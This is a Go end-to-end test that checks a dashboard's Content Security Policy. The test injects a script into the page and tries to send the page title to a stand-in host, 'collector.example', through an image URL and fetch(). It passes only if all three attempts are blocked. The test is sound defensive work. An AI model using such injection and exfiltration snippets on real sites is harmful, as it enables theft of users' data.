package e2e

import (
	"strings"
	"testing"
	"time"
)

// A script that gets into the page does not run, and what it would tell goes nowhere.
func TestDashboardPolicyStopsAScriptThatGotIn(t *testing.T) {
	t.Parallel()
	o := startOffice(t)
	// The tab is not the desk's, whose console has to stay silent.
	inside := sitDown(t, o, operatorToken).another()
	inside.visit(o.operators() + "/")
	inside.becomes(20*time.Second, `document.querySelector('nav')`)
	broken := eval[[]string](inside, `new Promise(done => {
		const seen = []
		document.addEventListener('securitypolicyviolation', e => { seen.push(e.effectiveDirective); if (seen.length == 3) done(seen) })
		const s = document.createElement('script')
		s.textContent = 'window.owned = 1'
		document.body.append(s)
		const i = new Image()
		i.src = 'https://collector.example/?' + document.title
		fetch('https://collector.example/').catch(() => {})
	})`)
	if text := strings.Join(broken, " "); !strings.Contains(text, "script-src") || !strings.Contains(text, "img-src") || !strings.Contains(text, "connect-src") {
		t.Errorf("kept out: %s", text)
	}
	if eval[bool](inside, `'owned' in window`) {
		t.Error("a script in the page ran")
	}
}
